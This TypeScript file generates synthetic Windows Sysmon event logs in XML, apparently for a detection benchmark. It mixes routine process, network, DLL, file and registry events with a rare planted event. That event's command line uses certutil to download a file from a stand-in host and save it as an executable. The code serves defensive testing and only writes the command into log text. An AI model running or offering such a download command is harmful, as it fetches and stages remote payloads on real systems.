/** Makes Sysmon events as the Windows event log renders them in XML, one a line: what XmlWinEventLog inputs send. */
import type { Random } from '../scripts/cloudtrail/random.ts';

type Pairs = readonly (readonly [name: string, value: string])[];

const PROGRAMS = [
  'svchost',
  'chrome',
  'msedge',
  'powershell',
  'cmd',
  'explorer',
  'teams',
  'outlook',
  'conhost',
  'backgroundTaskHost',
];
const FOLDERS = ['C:\\Windows\\System32\\', 'C:\\Program Files\\Vendor\\', 'C:\\Users\\worker\\AppData\\Local\\'];
/** One in so many events is what the benchmark's detection looks for. */
const RARE = 9000;
const START = Date.UTC(2024, 4, 31, 6);

/** One event; `number` counts them, and time goes on with it. */
export function sysmonEvent(random: Random, number: number): string {
  const time = new Date(START + number * 40).toISOString().replace('Z', `${String(1000 + random.below(9000))}00Z`);
  const computer = `ws-${String(1 + random.below(180)).padStart(4, '0')}.corp.example`;
  const [id, data] = number % RARE === RARE - 1 ? ([1, download(random)] as const) : ordinary(random);
  const written = [['RuleName', '-'], ['UtcTime', time.replace('T', ' ').slice(0, 23)], ...data]
    .map(([name, value]) => `<Data Name='${name}'>${escaped(value)}</Data>`)
    .join('');
  return (
    `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>` +
    `<Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385F-C22A-43E0-BF4C-06F5698FFBD9}'/><EventID>${id}</EventID>` +
    `<Version>5</Version><Level>4</Level><Task>${id}</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>` +
    `<TimeCreated SystemTime='${time}'/><EventRecordID>${100_000 + number}</EventRecordID><Correlation/>` +
    `<Execution ProcessID='${2000 + (number % 50)}' ThreadID='3044'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel>` +
    `<Computer>${computer}</Computer><Security UserID='S-1-5-18'/></System><EventData>${written}</EventData></Event>`
  );
}

function ordinary(random: Random): readonly [number, Pairs] {
  const kind = random.below(100);
  const image = program(random);
  if (kind < 30)
    return [1, process(random, image, `"${image}" --type=${random.pick(PROGRAMS)} --id ${random.hex(6)}`, program(random))];
  if (kind < 45) return [3, connection(random, image)];
  if (kind < 65)
    return [7, [...who(random, image), ['ImageLoaded', `${random.pick(FOLDERS)}${random.hex(8)}.dll`], ...file(random)]];
  if (kind < 80)
    return [
      11,
      [...who(random, image), ['TargetFilename', `${random.pick(FOLDERS)}${random.hex(12)}.tmp`], ['User', user(random)]],
    ];
  return [
    13,
    [
      ['EventType', 'SetValue'],
      ...who(random, image),
      ['TargetObject', `HKLM\\SOFTWARE\\Vendor\\${random.hex(8)}\\Setting`],
      ['Details', `DWORD (0x${random.hex(8)})`],
      ['User', user(random)],
    ],
  ];
}

function download(random: Random): Pairs {
  const line = `certutil.exe -urlcache -split -f http://files.example/${random.hex(6)}.txt C:\\Temp\\${random.hex(4)}.exe`;
  return process(random, 'C:\\Windows\\System32\\certutil.exe', line, 'C:\\Windows\\System32\\cmd.exe');
}

function process(random: Random, image: string, line: string, parent: string): Pairs {
  return [
    ...who(random, image),
    ...file(random),
    ['CommandLine', line],
    ['CurrentDirectory', random.pick(FOLDERS)],
    ['User', user(random)],
    ['LogonGuid', guid(random)],
    ['LogonId', `0x${random.hex(5)}`],
    ['TerminalSessionId', String(random.below(3))],
    ['IntegrityLevel', random.pick(['Low', 'Medium', 'High', 'System'])],
    [
      'Hashes',
      `MD5=${random.hex(32).toUpperCase()},SHA256=${random.hex(64).toUpperCase()},IMPHASH=${random.hex(32).toUpperCase()}`,
    ],
    ['ParentProcessGuid', guid(random)],
    ['ParentProcessId', String(random.below(9999))],
    ['ParentImage', parent],
    ['ParentCommandLine', `${parent} -k ${random.pick(PROGRAMS)} & exit`],
    ['ParentUser', user(random)],
  ];
}

function connection(random: Random, image: string): Pairs {
  return [
    ...who(random, image),
    ['User', user(random)],
    ['Protocol', 'tcp'],
    ['Initiated', 'true'],
    ['SourceIsIpv6', 'false'],
    ['SourceIp', `10.20.${random.below(256)}.${random.below(256)}`],
    ['SourcePort', String(49152 + random.below(9999))],
    ['DestinationIsIpv6', 'false'],
    ['DestinationIp', `198.51.100.${random.below(256)}`],
    ['DestinationHostname', `${random.hex(6)}.example`],
    ['DestinationPort', random.pick(['443', '80', '8080'])],
  ];
}

function who(random: Random, image: string): Pairs {
  return [
    ['ProcessGuid', guid(random)],
    ['ProcessId', String(random.below(9999))],
    ['Image', image],
  ];
}

function file(random: Random): Pairs {
  return [
    ['FileVersion', `10.0.${random.below(20000)}.1`],
    ['Description', random.pick(['Host Process', 'Browser', 'Shell'])],
    ['Product', random.pick(['Windows', 'Vendor Suite'])],
    ['Company', random.pick(['Microsoft Corporation', 'Vendor'])],
    ['OriginalFileName', `${random.pick(PROGRAMS)}.exe`],
  ];
}

function program(random: Random): string {
  return `${random.pick(FOLDERS)}${random.pick(PROGRAMS)}.exe`;
}

function user(random: Random): string {
  return `CORP\\user${String(random.below(400)).padStart(3, '0')}`;
}

function guid(random: Random): string {
  return `{${random.uuid().toUpperCase()}}`;
}

function escaped(text: string): string {
  return text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');
}
